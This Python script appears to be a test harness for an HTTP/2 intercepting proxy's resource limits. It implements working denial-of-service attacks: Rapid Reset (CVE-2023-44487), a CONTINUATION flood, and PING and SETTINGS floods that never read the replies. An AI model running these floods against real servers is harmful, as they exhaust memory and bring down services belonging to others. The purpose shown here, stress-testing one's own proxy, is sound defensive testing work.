#!/usr/bin/env python3
"""HTTP/2 abuse against sidekey's intercepted connections, for the resource-limit tests.

  h2flood.py --proxy HOST:PORT --ca CA.pem --host api.test.local --mode MODE [--count N]

Opens CONNECT host:443 through the forward listener, TLS with ALPN h2 (trusting sidekey's CA),
then:
  rapid-reset   N times: HEADERS (GET /echo/flood) immediately followed by RST_STREAM(CANCEL),
                the CVE-2023-44487 pattern;
  continuation  one HEADERS without END_HEADERS, then up to N CONTINUATION frames of 16 KiB of
                header block each (the CONTINUATION flood), never ending the header block.
Writes frames with hyperframe (raw, so that nothing is "fixed" on the way) and reads what the
server sends. Prints one JSON object: {"sent": frames written before the connection broke,
"goaway": error code of a GOAWAY received or null, "closed": the server closed the connection}.

  ping-flood / settings-flood  PING frames (or SETTINGS frames, each changing one setting) sent
                as fast as the socket takes them, on a non-blocking socket whose small buffers
                are set before connecting, while the client never reads a byte: every frame
                asks for an ACK the server has nowhere to put but its own memory or a full
                socket. Stops when writes have been blocked for --block-seconds in a row
                (backpressure) or after --max-bytes. Prints one JSON line {"sent_bytes",
                "frames", "blocked": bool, "seconds", "sndbuf", "rcvbuf"} and keeps the
                connection open, still unread, until stdin closes.
"""

import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(args, bufsize=None):
    host, port = args.proxy.rsplit(":", 1)
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if bufsize:
        # Before connecting, so that the receive window is small from the start.
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, bufsize)
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, bufsize)
    raw.settimeout(10)
    raw.connect((host, int(port)))
    raw.sendall(f"CONNECT {args.host}:443 HTTP/1.1\r\nHost: {args.host}:443\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = raw.recv(4096)
        if not chunk:
            raise SystemExit("proxy closed during CONNECT")
        head += chunk
    if not head.startswith(b"HTTP/1.1 200"):
        raise SystemExit(f"CONNECT refused: {head[:64]!r}")
    ctx = ssl.create_default_context(cafile=args.ca)
    ctx.set_alpn_protocols(["h2"])
    tls = ctx.wrap_socket(raw, server_hostname=args.host)
    if tls.selected_alpn_protocol() != "h2":
        raise SystemExit("no h2")
    return tls


def read_frames(sock, state):
    """Reads whatever is available without blocking long; notes GOAWAY and EOF."""
    sock.settimeout(0.001)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                state["closed"] = True
                return
            state["buf"] += data
    except (socket.timeout, ssl.SSLWantReadError, BlockingIOError):
        pass
    except (ConnectionError, ssl.SSLError, OSError):
        state["closed"] = True
        return
    finally:
        sock.settimeout(10)
    buf = state["buf"]
    while len(buf) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(buf[:9]))
        if len(buf) < 9 + length:
            break
        frame.parse_body(memoryview(buf[9:9 + length]))
        buf = buf[9 + length:]
        if isinstance(frame, GoAwayFrame):
            state["goaway"] = frame.error_code
    state["buf"] = buf


def ack_flood(args):
    """Floods frames that each ask for an ACK, never reading; see the module doc."""
    sock = connect(args, bufsize=args.bufsize)
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    batch = bytearray()
    for i in range(1024):
        if args.mode == "ping-flood":
            batch += PingFrame(0, opaque_data=struct.pack(">Q", i)).serialize()
        else:
            # Alternating values, so that every frame is a change to apply.
            batch += SettingsFrame(0, settings={
                SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + (i % 2)}).serialize()
    batch = bytes(batch)
    per_batch = 1024
    sock.setblocking(False)
    sent = frames = 0
    started = time.time()
    blocked_since = None
    blocked = False
    while sent < args.max_bytes:
        try:
            sock.send(batch)
        except (ssl.SSLWantWriteError, BlockingIOError):
            now = time.time()
            if blocked_since is None:
                blocked_since = now
            elif now - blocked_since >= args.block_seconds:
                blocked = True
                break
            select.select([], [sock], [], 0.05)
            continue
        except (ConnectionError, ssl.SSLError, OSError) as e:
            print(json.dumps({"error": str(e), "sent_bytes": sent, "frames": frames}), flush=True)
            return
        blocked_since = None
        sent += len(batch)
        frames += per_batch
    print(json.dumps({
        "sent_bytes": sent,
        "frames": frames,
        "blocked": blocked,
        "seconds": round(time.time() - started, 3),
        "sndbuf": sock.getsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF),
        "rcvbuf": sock.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF),
    }), flush=True)
    # Hold the connection, unread, until the test is done with it.
    sys.stdin.read()


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--proxy", required=True)
    p.add_argument("--ca", required=True)
    p.add_argument("--host", required=True)
    p.add_argument("--mode", choices=["rapid-reset", "continuation", "ping-flood",
                                      "settings-flood"], required=True)
    p.add_argument("--count", type=int, default=5000)
    p.add_argument("--max-bytes", type=int, default=64 << 20)
    p.add_argument("--block-seconds", type=float, default=3.0)
    p.add_argument("--bufsize", type=int, default=65536)
    args = p.parse_args()
    if args.mode in ("ping-flood", "settings-flood"):
        ack_flood(args)
        return

    sock = connect(args)
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    state = {"buf": b"", "goaway": None, "closed": False}
    enc = Encoder()
    sent = 0
    try:
        if args.mode == "rapid-reset":
            for i in range(args.count):
                sid = 1 + 2 * i
                block = enc.encode([(":method", "GET"), (":scheme", "https"),
                                    (":authority", args.host), (":path", "/echo/flood")])
                hf = HeadersFrame(sid, block)
                hf.flags.add("END_HEADERS")
                hf.flags.add("END_STREAM")
                sock.sendall(hf.serialize() + RstStreamFrame(sid, error_code=8).serialize())
                sent += 1
                if i % 50 == 0:
                    read_frames(sock, state)
                    if state["closed"] or state["goaway"] is not None:
                        break
        else:
            block = enc.encode([(":method", "GET"), (":scheme", "https"),
                                (":authority", args.host), (":path", "/echo/cont")])
            sock.sendall(HeadersFrame(1, block).serialize())
            filler = enc.encode([("x-filler", "a" * 16000)])
            for i in range(args.count):
                sock.sendall(ContinuationFrame(1, filler).serialize())
                sent += 1
                if i % 10 == 0:
                    read_frames(sock, state)
                    if state["closed"] or state["goaway"] is not None:
                        break
    except (ConnectionError, ssl.SSLError, OSError):
        state["closed"] = True
    deadline = time.time() + 5
    while not state["closed"] and state["goaway"] is None and time.time() < deadline:
        read_frames(sock, state)
        time.sleep(0.05)
    print(json.dumps({"sent": sent, "goaway": state["goaway"], "closed": state["closed"]}))


if __name__ == "__main__":
    main()
